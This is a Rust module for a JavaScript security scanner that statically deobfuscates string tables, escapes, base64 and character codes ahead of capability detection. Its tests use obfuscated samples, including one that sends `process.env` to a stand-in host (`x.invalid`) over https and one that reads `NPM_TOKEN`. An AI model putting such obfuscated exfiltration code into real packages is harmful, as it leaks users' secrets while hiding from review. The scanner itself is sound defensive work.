//! Deobfuscation before capability detection: constant strings that code builds or decodes at
//! run time are worked out on the syntax tree and written back as plain literals, so the
//! capability scan ([`crate::caps`]) sees `require('https')` where the file says
//! `require(_0x12('0x0'))`.
//!
//! What is resolved (each only from constants in the file, never by running anything):
//! - string escapes: `\x68`, `\u0068`, `\u{68}`, octal `\150`;
//! - literal concatenation (`'child_' + 'process'`) and computed member access
//!   (`obj['req' + 'uire']` becomes `obj.require`);
//! - `[...].join(sep)`, `'...'.split('').reverse().join('')`;
//! - `String.fromCharCode(104, 116, ...)`;
//! - `atob('...')` and `Buffer.from('...', 'base64' | 'hex').toString()`;
//! - string-array tables, the javascript-obfuscator shape: `var _0x5c = ['...', ...]`, a
//!   rotation IIFE `(function (a, b) { ... a.push(a.shift()) ... })(_0x5c, 0x1a3)` that turns
//!   the array left `b` times, and an index function
//!   `function _0x12(i) { i = i - 0x0; return _0x5c[i]; }`, so `_0x12('0x0')` is an entry;
//! - names bound once to such a constant (`const m = 'child_' + 'process'; require(m)`).
//!
//! The work is bounded: files are parsed only when a cheap text test ([`needs_decoding`]) sees
//! one of these shapes, never above [`MAX_DECODE_BYTES`], and evaluation stops after
//! [`STEP_BUDGET`] syntax nodes or at nesting depth [`MAX_DEPTH`], keeping what it resolved so
//! far. Rotations that check themselves with a `parseInt` checksum (newer javascript-obfuscator
//! output) are not replayed; their tables are read unrotated.

use std::collections::HashMap;
use std::sync::LazyLock;

use regex::Regex;
use tree_sitter::Node;

/// Files above this size are not parsed for deobfuscation (their text is scanned as it is).
pub const MAX_DECODE_BYTES: usize = 2 * 1024 * 1024;
/// Syntax nodes evaluated per file at most.
pub const STEP_BUDGET: usize = 400_000;
/// Nesting depth of an evaluated expression at most.
pub const MAX_DEPTH: usize = 48;
/// Longest constant string built, in bytes (longer ones are left as they are).
const MAX_VALUE: usize = 64 * 1024;
/// Rotations replayed at most (a rotation count is taken modulo the table length).
const MAX_TABLE: usize = 100_000;

/// The shapes that make a file worth parsing for deobfuscation: each names constants in a
/// hiding position (literal character codes, literal base64, an array joined with `''`, an
/// escaped or concatenated name in `require(` or `[`).
static GATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"fromCharCode\s*\(\s*(?:0x[0-9a-fA-F]+|\d+)\s*,",
        r"|(?-u:\b)atob\s*\(\s*['\x22]",
        r"|Buffer\s*\.\s*from\s*\(\s*['\x22][A-Za-z0-9+/=]{8,}['\x22]\s*,\s*['\x22](?:base64|hex)",
        r"|['\x22]\s*\]\s*\.\s*join\s*\(\s*(?:''|\x22\x22)\s*\)",
        r"|\.split\s*\(\s*(?:''|\x22\x22)\s*\)\s*\.\s*reverse\s*\(",
        r"|(?:require\s*\(|\[)\s*['\x22][^'\x22\n]{0,100}\\(?:x[0-9a-fA-F]|u[0-9a-fA-F{]|[0-7])",
        r"|(?:require\s*\(|\[)\s*['\x22][^'\x22\n]{0,100}['\x22]\s*\+\s*['\x22]",
    ))
    .unwrap_or_else(|_| Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!()))
});

/// `_0x`-style names (javascript-obfuscator's string-table shape).
static HEX_NAME: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)_0x[0-9a-fA-F]+(?-u:\b)")
        .unwrap_or_else(|_| Regex::new(r"[^\s\S]").unwrap_or_else(|_| unreachable!()))
});

/// Files above this size are parsed for deobfuscation only when they have `_0x` names: large
/// bundles use `fromCharCode` and escapes for ordinary reasons, and a parse of them costs as
/// much as the engine's own.
pub const MAX_PLAIN_DECODE_BYTES: usize = 128 * 1024;

/// Whether `code` has one of the shapes this module resolves (a cheap text test).
pub fn needs_decoding(code: &str) -> bool {
    if code.len() > MAX_DECODE_BYTES {
        return false;
    }
    let hex_names = || {
        let mut seen = std::collections::BTreeSet::new();
        HEX_NAME
            .find_iter(code)
            .any(|m| seen.insert(m.as_str()) && seen.len() >= 3)
    };
    if code.contains("_0x") && hex_names() {
        return true;
    }
    code.len() <= MAX_PLAIN_DECODE_BYTES && GATE.is_match(code)
}

/// One resolved expression.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoding {
    /// Byte range of the expression in the original text.
    pub start: usize,
    /// End of that range.
    pub end: usize,
    /// The expression as written (truncated).
    pub original: String,
    /// The string it evaluates to (truncated).
    pub value: String,
    /// Start of the replacement in the decoded text.
    decoded_start: usize,
    /// End of the replacement in the decoded text.
    decoded_end: usize,
}

impl Decoding {
    /// `` `_0x12('0x0')` → `https` ``, for messages.
    pub fn describe(&self) -> String {
        format!("`{}` → `{}`", self.original, self.value)
    }
}

/// A file's text with its resolved expressions written as plain literals.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Decoded {
    /// The rewritten text.
    pub text: String,
    /// What was resolved, in text order, not overlapping.
    pub decodings: Vec<Decoding>,
}

impl Decoded {
    /// The offset in the original text of `offset` in the decoded text (a place inside a
    /// replacement maps to the start of the replaced expression).
    pub fn original_offset(&self, offset: usize) -> usize {
        let mut shift: isize = 0;
        for d in &self.decodings {
            if offset < d.decoded_start {
                break;
            }
            if offset < d.decoded_end {
                return d.start;
            }
            shift = d.end as isize - d.decoded_end as isize;
        }
        (offset as isize + shift).max(0) as usize
    }

    /// The first decoding whose replacement overlaps `start..end` of the decoded text.
    pub fn decoding_in(&self, start: usize, end: usize) -> Option<&Decoding> {
        self.decodings
            .iter()
            .find(|d| d.decoded_start < end.max(start + 1) && start < d.decoded_end)
    }
}

/// Resolves what can be resolved in `code`; `None` when the file has none of the shapes, is too
/// large, or nothing resolved.
pub fn decode(code: &str) -> Option<Decoded> {
    if !needs_decoding(code) {
        return None;
    }
    let tree = tarsier_parse::parse(code).ok()?;
    let mut eval = Eval {
        src: code,
        tables: HashMap::new(),
        index_fns: HashMap::new(),
        consts: HashMap::new(),
        steps: 0,
    };
    eval.collect(tree.root_node());
    let replacements = eval.rewrite(tree.root_node());
    if replacements.is_empty() {
        return None;
    }
    let mut text = String::with_capacity(code.len());
    let mut decodings = Vec::with_capacity(replacements.len());
    let mut at = 0;
    for r in replacements {
        text.push_str(code.get(at..r.start)?);
        let decoded_start = text.len();
        text.push_str(&r.written);
        decodings.push(Decoding {
            start: r.start,
            end: r.end,
            original: crate::text::truncate(code.get(r.start..r.end)?, 80),
            value: crate::text::truncate(&r.value, 80),
            decoded_start,
            decoded_end: text.len(),
        });
        at = r.end;
    }
    text.push_str(code.get(at..)?);
    Some(Decoded { text, decodings })
}

/// A constant value.
#[derive(Debug, Clone, PartialEq)]
enum Val {
    Str(String),
    Num(i64),
    Arr(Vec<Val>),
    /// `Buffer.from(...)` of a constant, decoded to bytes.
    Bytes(Vec<u8>),
}

/// One replacement of the original text.
struct Replacement {
    start: usize,
    end: usize,
    written: String,
    value: String,
}

struct Eval<'s> {
    src: &'s str,
    /// String-array tables, rotated.
    tables: HashMap<String, Vec<String>>,
    /// Index functions: table name and the offset subtracted from the index.
    index_fns: HashMap<String, (String, i64)>,
    /// Names declared once with a constant string value (`None`: declared more than once).
    consts: HashMap<String, Option<String>>,
    steps: usize,
}

impl<'s> Eval<'s> {
    fn text(&self, node: Node<'_>) -> &'s str {
        self.src.get(node.byte_range()).unwrap_or_default()
    }

    fn spend(&mut self) -> bool {
        self.steps += 1;
        self.steps <= STEP_BUDGET
    }

    /// Every node below `root`, iteratively, within the budget.
    fn nodes<'t>(&mut self, root: Node<'t>) -> Vec<Node<'t>> {
        let mut out = Vec::new();
        let mut cursor = root.walk();
        'walk: loop {
            if !self.spend() {
                break;
            }
            out.push(cursor.node());
            if cursor.goto_first_child() {
                continue;
            }
            loop {
                if cursor.goto_next_sibling() {
                    continue 'walk;
                }
                if !cursor.goto_parent() {
                    break 'walk;
                }
            }
        }
        out
    }

    /// Finds string tables, their rotations, index functions and constant names.
    fn collect(&mut self, root: Node<'_>) {
        let nodes = self.nodes(root);
        // Tables first: arrays of three or more string literals bound to a name.
        for &node in &nodes {
            if node.kind() != "variable_declarator" {
                continue;
            }
            let (Some(name), Some(value)) = (
                node.child_by_field_name("name"),
                node.child_by_field_name("value"),
            ) else {
                continue;
            };
            if name.kind() != "identifier" {
                continue;
            }
            let name = self.text(name).to_owned();
            if value.kind() == "array" {
                let mut cursor = value.walk();
                let items: Option<Vec<String>> = value
                    .named_children(&mut cursor)
                    .map(|item| {
                        (item.kind() == "string").then(|| unescape_literal(self.text(item)))
                    })
                    .collect();
                if let Some(items) = items.filter(|i| i.len() >= 3 && i.len() <= MAX_TABLE) {
                    self.tables.insert(name, items);
                }
                continue;
            }
            if let Some(Val::Str(s)) = self.eval(value, 0) {
                self.consts
                    .entry(name)
                    .and_modify(|v| *v = None)
                    .or_insert(Some(s));
            }
        }
        if self.tables.is_empty() {
            return;
        }
        for &node in &nodes {
            match node.kind() {
                "call_expression" => self.rotation(node),
                "function_declaration" | "variable_declarator" => self.index_fn(node),
                _ => {}
            }
        }
    }

    /// `(function (a, b) { ... push ... shift ... })(table, count)`: turns the table left.
    fn rotation(&mut self, call: Node<'_>) {
        let Some(mut function) = call.child_by_field_name("function") else {
            return;
        };
        while function.kind() == "parenthesized_expression" {
            let Some(inner) = function.named_child(0) else {
                return;
            };
            function = inner;
        }
        if !matches!(function.kind(), "function_expression" | "arrow_function") {
            return;
        }
        // Rotation functions are small; a bundle's module wrapper is not one.
        if function.byte_range().len() > 2000 {
            return;
        }
        let body = self.text(function);
        if !(body.contains("push") && body.contains("shift")) || body.contains("parseInt") {
            return;
        }
        let Some(args) = call.child_by_field_name("arguments") else {
            return;
        };
        let (Some(table), Some(count)) = (args.named_child(0), args.named_child(1)) else {
            return;
        };
        let name = self.text(table);
        let Some(Val::Num(count)) = self.eval(count, 0) else {
            return;
        };
        if let Some(items) = self.tables.get_mut(name)
            && !items.is_empty()
        {
            let by = count.rem_euclid(items.len() as i64) as usize;
            items.rotate_left(by);
        }
    }

    /// `function f(i) { i = i - K; ... return table[i] }` (or `var f = function (i, ...) {...}`).
    fn index_fn(&mut self, node: Node<'_>) {
        let (name, function) = if node.kind() == "function_declaration" {
            (node.child_by_field_name("name"), Some(node))
        } else {
            (
                node.child_by_field_name("name"),
                node.child_by_field_name("value")
                    .filter(|v| matches!(v.kind(), "function_expression" | "arrow_function")),
            )
        };
        let (Some(name), Some(function)) = (name, function) else {
            return;
        };
        let Some(param) = function
            .child_by_field_name("parameters")
            .and_then(|p| p.named_child(0))
            .filter(|p| p.kind() == "identifier")
        else {
            return;
        };
        let param = self.text(param);
        let body = self.text(function);
        if body.len() > 2000 {
            return;
        }
        // `return table[param]` or `var x = table[param]`: the table it reads.
        let Some(table) = self
            .tables
            .keys()
            .find(|t| body.contains(&format!("{t}[{param}]")))
            .cloned()
        else {
            return;
        };
        let offset = index_offset(body, param).unwrap_or(0);
        self.index_fns
            .insert(self.text(name).to_owned(), (table, offset));
    }

    /// The outermost expressions that resolve to strings, in text order.
    fn rewrite(&mut self, root: Node<'_>) -> Vec<Replacement> {
        let mut out = Vec::new();
        let mut stack = vec![root];
        while let Some(node) = stack.pop() {
            if !self.spend() {
                break;
            }
            if let Some(r) = self.replacement(node) {
                let subscript_object = (node.kind() == "subscript_expression")
                    .then(|| node.child_by_field_name("object"))
                    .flatten();
                out.push(r);
                if let Some(object) = subscript_object {
                    stack.push(object);
                }
                continue;
            }
            let mut cursor = node.walk();
            let children: Vec<Node<'_>> = node.children(&mut cursor).collect();
            stack.extend(children.into_iter().rev());
        }
        out.sort_by_key(|r| r.start);
        // Children of a subscript's object were pushed after the subscript: no overlaps, but
        // keep the first of any two that would.
        let mut end = 0;
        out.retain(|r| {
            let keep = r.start >= end;
            if keep {
                end = r.end;
            }
            keep
        });
        out
    }

    /// The replacement for `node`, if it is a non-trivial constant string.
    fn replacement(&mut self, node: Node<'_>) -> Option<Replacement> {
        match node.kind() {
            "string" => {
                let raw = self.text(node);
                if !hides_text(raw) {
                    return None;
                }
                let value = unescape_literal(raw);
                Some(Replacement {
                    start: node.start_byte(),
                    end: node.end_byte(),
                    written: quote(&value),
                    value,
                })
            }
            "subscript_expression" => {
                let object = node.child_by_field_name("object")?;
                let index = node.child_by_field_name("index")?;
                // `table[3]`: the entry itself.
                if let Some(Val::Str(value)) = self.eval(node, 0) {
                    return Some(Replacement {
                        start: node.start_byte(),
                        end: node.end_byte(),
                        written: quote(&value),
                        value,
                    });
                }
                if index.kind() == "string" && !hides_text(self.text(index)) {
                    // `obj['name']`: nothing hidden, but written as `obj.name` for the scan.
                    let value = unescape_literal(self.text(index));
                    if !is_identifier(&value) {
                        return None;
                    }
                    return Some(Replacement {
                        start: object.end_byte(),
                        end: node.end_byte(),
                        written: format!(".{value}"),
                        value,
                    });
                }
                let Some(Val::Str(value)) = self.eval(index, 0) else {
                    return None;
                };
                let written = if is_identifier(&value) {
                    format!(".{value}")
                } else {
                    format!("[{}]", quote(&value))
                };
                Some(Replacement {
                    start: object.end_byte(),
                    end: node.end_byte(),
                    written,
                    value,
                })
            }
            "binary_expression" | "call_expression" | "parenthesized_expression" => {
                let Some(Val::Str(value)) = self.eval(node, 0) else {
                    return None;
                };
                Some(Replacement {
                    start: node.start_byte(),
                    end: node.end_byte(),
                    written: quote(&value),
                    value,
                })
            }
            // A name bound once to a constant, where a module name or key is expected.
            "identifier" => {
                // `parent()` walks down from the root: look the name up first.
                self.consts.get(self.text(node))?.as_ref()?;
                let parent = node.parent()?;
                let is_argument = parent.kind() == "arguments"
                    && parent
                        .parent()
                        .and_then(|call| call.child_by_field_name("function"))
                        .is_some_and(|f| matches!(self.text(f), "require" | "import"));
                let is_index = parent.kind() == "subscript_expression"
                    && parent.child_by_field_name("index") == Some(node);
                if !(is_argument || is_index) {
                    return None;
                }
                let value = self.consts.get(self.text(node))?.clone()?;
                Some(Replacement {
                    start: node.start_byte(),
                    end: node.end_byte(),
                    written: quote(&value),
                    value,
                })
            }
            _ => None,
        }
    }

    /// The constant value of an expression, if it has one.
    fn eval(&mut self, node: Node<'_>, depth: usize) -> Option<Val> {
        if depth > MAX_DEPTH || !self.spend() {
            return None;
        }
        let value = match node.kind() {
            "string" => Val::Str(unescape_literal(self.text(node))),
            "template_string" => {
                if node.named_child_count() > 0
                    && (0..node.named_child_count()).any(|i| {
                        node.named_child(i)
                            .is_some_and(|c| c.kind() == "template_substitution")
                    })
                {
                    return None;
                }
                Val::Str(unescape_literal(self.text(node)))
            }
            "number" => Val::Num(parse_number(self.text(node))?),
            "parenthesized_expression" => return self.eval(node.named_child(0)?, depth + 1),
            "binary_expression" => {
                let op = node.child_by_field_name("operator")?;
                let op = self.text(op);
                let left = self.eval(node.child_by_field_name("left")?, depth + 1)?;
                let right = self.eval(node.child_by_field_name("right")?, depth + 1)?;
                match (op, left, right) {
                    ("+", Val::Num(a), Val::Num(b)) => Val::Num(a.checked_add(b)?),
                    ("-", Val::Num(a), Val::Num(b)) => Val::Num(a.checked_sub(b)?),
                    ("*", Val::Num(a), Val::Num(b)) => Val::Num(a.checked_mul(b)?),
                    ("+", a, b) => {
                        let s = format!("{}{}", as_string(&a)?, as_string(&b)?);
                        (s.len() <= MAX_VALUE).then_some(Val::Str(s))?
                    }
                    _ => return None,
                }
            }
            "array" => {
                let mut items = Vec::new();
                for i in 0..node.named_child_count() {
                    items.push(self.eval(node.named_child(i)?, depth + 1)?);
                }
                Val::Arr(items)
            }
            "identifier" => Val::Str(self.consts.get(self.text(node))?.clone()?),
            "subscript_expression" => {
                let object = node.child_by_field_name("object")?;
                if object.kind() != "identifier" || !self.tables.contains_key(self.text(object)) {
                    return None;
                }
                let index = node.child_by_field_name("index")?;
                let i = match self.eval(index, depth + 1)? {
                    Val::Num(n) => n,
                    Val::Str(s) => parse_number(&s)?,
                    _ => return None,
                };
                Val::Str(
                    self.tables
                        .get(self.text(object))?
                        .get(usize::try_from(i).ok()?)?
                        .clone(),
                )
            }
            "call_expression" => return self.call(node, depth),
            _ => return None,
        };
        Some(value)
    }

    fn call(&mut self, node: Node<'_>, depth: usize) -> Option<Val> {
        let function = node.child_by_field_name("function")?;
        let args_node = node.child_by_field_name("arguments")?;
        if args_node.kind() != "arguments" || args_node.named_child_count() > 256 {
            return None;
        }
        let arg_nodes: Vec<Node<'_>> = (0..args_node.named_child_count())
            .filter_map(|i| args_node.named_child(i))
            .collect();
        let callee = self.text(function);
        if function.kind() == "identifier" {
            if callee == "atob" {
                let Val::Str(s) = self.eval(*arg_nodes.first()?, depth + 1)? else {
                    return None;
                };
                return Some(Val::Str(bytes_to_string(&base64(&s)?)?));
            }
            if let Some((table, offset)) = self.index_fns.get(callee).cloned() {
                let i = match self.eval(*arg_nodes.first()?, depth + 1)? {
                    Val::Num(n) => n,
                    Val::Str(s) => parse_number(&s)?,
                    _ => return None,
                };
                let i = usize::try_from(i.checked_sub(offset)?).ok()?;
                return Some(Val::Str(self.tables.get(&table)?.get(i)?.clone()));
            }
            return None;
        }
        if function.kind() != "member_expression" {
            return None;
        }
        let object = function.child_by_field_name("object")?;
        let property = self.text(function.child_by_field_name("property")?);
        // Only these methods resolve; anything else is left before looking at the receiver (a
        // receiver can be a whole bundle's IIFE).
        if !matches!(
            property,
            "fromCharCode" | "from" | "join" | "split" | "reverse" | "toString"
        ) {
            return None;
        }
        let object_text: String = if object.byte_range().len() <= 16 {
            self.text(object).split_whitespace().collect()
        } else {
            String::new()
        };
        match (object_text.as_str(), property) {
            ("String", "fromCharCode") => {
                let mut s = String::new();
                for arg in arg_nodes {
                    let Val::Num(n) = self.eval(arg, depth + 1)? else {
                        return None;
                    };
                    s.push(char::from_u32(u32::try_from(n).ok()?)?);
                }
                return Some(Val::Str(s));
            }
            ("Buffer", "from") => {
                let Val::Str(data) = self.eval(*arg_nodes.first()?, depth + 1)? else {
                    return None;
                };
                let encoding = match arg_nodes.get(1) {
                    Some(&e) => match self.eval(e, depth + 1)? {
                        Val::Str(e) => e.to_ascii_lowercase(),
                        _ => return None,
                    },
                    None => "utf8".to_owned(),
                };
                let bytes = match encoding.as_str() {
                    "base64" => base64(&data)?,
                    "hex" => hex(&data)?,
                    "utf8" | "utf-8" | "ascii" | "latin1" | "binary" => data.into_bytes(),
                    _ => return None,
                };
                return Some(Val::Bytes(bytes));
            }
            _ => {}
        }
        let receiver = self.eval(object, depth + 1)?;
        let first = match arg_nodes.first() {
            Some(&a) => Some(self.eval(a, depth + 1)?),
            None => None,
        };
        match (property, receiver, first) {
            ("join", Val::Arr(items), sep) => {
                let sep = match sep {
                    Some(Val::Str(s)) => s,
                    None => ",".to_owned(),
                    _ => return None,
                };
                let parts: Option<Vec<String>> = items.iter().map(as_string).collect();
                let s = parts?.join(&sep);
                (s.len() <= MAX_VALUE).then_some(Val::Str(s))
            }
            ("split", Val::Str(s), Some(Val::Str(sep))) if s.len() <= MAX_VALUE => {
                Some(Val::Arr(if sep.is_empty() {
                    s.chars().map(|c| Val::Str(c.to_string())).collect()
                } else {
                    s.split(sep.as_str())
                        .map(|p| Val::Str(p.to_owned()))
                        .collect()
                }))
            }
            ("reverse", Val::Arr(mut items), None) => {
                items.reverse();
                Some(Val::Arr(items))
            }
            ("toString", Val::Bytes(b), None) => Some(Val::Str(bytes_to_string(&b)?)),
            ("toString", Val::Bytes(b), Some(Val::Str(e)))
                if matches!(
                    e.to_ascii_lowercase().as_str(),
                    "utf8" | "utf-8" | "ascii" | "latin1"
                ) =>
            {
                Some(Val::Str(bytes_to_string(&b)?))
            }
            _ => None,
        }
    }
}

/// The offset an index function subtracts: `i = i - 0x1a0`, `i -= 12`.
fn index_offset(body: &str, param: &str) -> Option<i64> {
    let compact: String = body.split_whitespace().collect();
    let forms = [format!("{param}={param}-"), format!("{param}-=")];
    let rest = forms
        .iter()
        .find_map(|f| compact.find(f.as_str()).map(|at| &compact[at + f.len()..]))?;
    let digits: String = rest
        .chars()
        .take_while(|c| c.is_ascii_alphanumeric())
        .collect();
    parse_number(&digits)
}

fn as_string(v: &Val) -> Option<String> {
    match v {
        Val::Str(s) => Some(s.clone()),
        Val::Num(n) => Some(n.to_string()),
        _ => None,
    }
}

/// Decoded bytes as text, when they are mostly printable (else they are data, not a name).
fn bytes_to_string(bytes: &[u8]) -> Option<String> {
    let s = String::from_utf8(bytes.to_vec()).ok()?;
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || c.is_whitespace())
        .count();
    (printable * 10 >= s.chars().count() * 9).then_some(s)
}

fn base64(s: &str) -> Option<Vec<u8>> {
    use base64::Engine as _;
    let clean: String = s.chars().filter(|c| !c.is_whitespace()).collect();
    base64::engine::general_purpose::STANDARD
        .decode(clean.as_bytes())
        .or_else(|_| base64::engine::general_purpose::STANDARD_NO_PAD.decode(clean.as_bytes()))
        .ok()
}

fn hex(s: &str) -> Option<Vec<u8>> {
    ::hex::decode(s).ok()
}

/// A JavaScript number literal as an integer (`12`, `0x1a3`, `0o17`, `0b11`, `1e3` is refused).
fn parse_number(text: &str) -> Option<i64> {
    let t = text.replace('_', "");
    let lower = t.to_ascii_lowercase();
    if let Some(h) = lower.strip_prefix("0x") {
        i64::from_str_radix(h, 16).ok()
    } else if let Some(o) = lower.strip_prefix("0o") {
        i64::from_str_radix(o, 8).ok()
    } else if let Some(b) = lower.strip_prefix("0b") {
        i64::from_str_radix(b, 2).ok()
    } else {
        lower.parse().ok()
    }
}

fn is_identifier(s: &str) -> bool {
    let mut chars = s.chars();
    chars
        .next()
        .is_some_and(|c| c.is_ascii_alphabetic() || c == '_' || c == '$')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '$')
}

/// Whether a string literal hides printable text behind escapes (`\x68`, `\u0068`, `\150`).
fn hides_text(raw: &str) -> bool {
    let mut chars = raw.chars().peekable();
    while let Some(c) = chars.next() {
        if c != '\\' {
            continue;
        }
        match chars.next() {
            Some('x' | 'u') => return true,
            Some('0'..='7') if chars.peek().is_some_and(char::is_ascii_digit) => return true,
            Some('1'..='7') => return true,
            _ => {}
        }
    }
    false
}

/// The value of a string or template literal (quotes included in `raw`), escapes resolved.
fn unescape_literal(raw: &str) -> String {
    let body = raw
        .get(1..raw.len().saturating_sub(1))
        .filter(|_| raw.len() >= 2)
        .unwrap_or_default();
    tarsier_parse::unescape_js_string(body)
}

/// `value` as a single-quoted JavaScript literal.
fn quote(value: &str) -> String {
    let mut out = String::with_capacity(value.len() + 2);
    out.push('\'');
    for c in value.chars() {
        match c {
            '\'' => out.push_str("\\'"),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            c if c.is_control() => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    fn decoded(code: &str) -> String {
        decode(code)
            .map(|d| d.text)
            .unwrap_or_else(|| code.to_owned())
    }

    #[test]
    fn string_table_with_rotation_and_index_function() {
        // The table holds the names turned right by 2; the IIFE turns them back.
        let code = "var _0x5c=['env','stringify','https','request','process'];\n\
            (function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x5c,0x2));\n\
            var _0x12=function(_0x6,_0x7){_0x6=_0x6-0x0;var _0x8=_0x5c[_0x6];return _0x8;};\n\
            var h=require(_0x12('0x0'));h[_0x12('0x1')]({host:'x.invalid'}).end(JSON[_0x12('0x4')](global[_0x12('0x2')][_0x12('0x3')]));\n";
        let out = decoded(code);
        assert!(out.contains("require('https')"), "{out}");
        assert!(out.contains("h.request("), "{out}");
        assert!(out.contains("global.process.env"), "{out}");
        let d = decode(code).unwrap();
        assert!(
            d.decodings
                .iter()
                .any(|d| d.describe() == "`_0x12('0x0')` → `https`")
        );
    }

    #[test]
    fn escapes_concatenation_join_charcodes_and_base64() {
        assert_eq!(
            decoded("require('\\x68\\x74\\x74\\x70\\x73')"),
            "require('https')"
        );
        assert_eq!(decoded("require('\\150ttp')"), "require('http')");
        assert_eq!(
            decoded("process['e' + 'nv']['NPM_' + 'TOKEN']"),
            "process.env.NPM_TOKEN"
        );
        assert_eq!(
            decoded("require(['child', '_process'].join(''))"),
            "require('child_process')"
        );
        assert_eq!(
            decoded("require(String.fromCharCode(0x6f, 115))"),
            "require('os')"
        );
        assert_eq!(decoded("require(atob('aHR0cHM='))"), "require('https')");
        assert_eq!(
            decoded("require(Buffer.from('68747470', 'hex').toString())"),
            "require('http')"
        );
        assert_eq!(
            decoded("require('ssecorp_dlihc'.split('').reverse().join(''))"),
            "require('child_process')"
        );
        assert_eq!(
            decoded("const m = ['child_', 'process'].join('');\nrequire(m)"),
            "const m = 'child_process';\nrequire('child_process')"
        );
    }

    #[test]
    fn ordinary_code_is_not_parsed_or_changed() {
        let code = "const path = require('path');\nmodule.exports = path.join(__dirname, 'a');\nconst x = obj['key'];\n";
        assert!(!needs_decoding(code));
        assert!(decode(code).is_none());
        // Text with a non-constant part stays.
        assert_eq!(
            decoded("require('./lib/' + name)"),
            "require('./lib/' + name)"
        );
    }

    #[test]
    fn offsets_map_back() {
        let code = "a; require('\\x6f\\x73'); os.homedir();";
        let d = decode(code).unwrap();
        let at = d.text.find("os.homedir").unwrap();
        assert_eq!(
            &code[d.original_offset(at)..d.original_offset(at) + 10],
            "os.homedir"
        );
        let inside = d.text.find("'os'").unwrap() + 1;
        assert_eq!(d.original_offset(inside), code.find("'\\x6f").unwrap());
        assert!(d.decoding_in(inside, inside + 2).is_some());
        assert!(d.decoding_in(at, at + 3).is_none());
    }

    #[test]
    fn budget_bounds_deep_nesting() {
        let deep = format!("require({}'a'{})", "(".repeat(5000), ")".repeat(5000));
        // Too deep to resolve; must return without overflowing the stack.
        let _ = decode(&deep);
        let long = format!("x = {};", vec!["'a'"; 20000].join(" + "));
        let _ = decode(&format!("_0xabc; {long}"));
    }
}
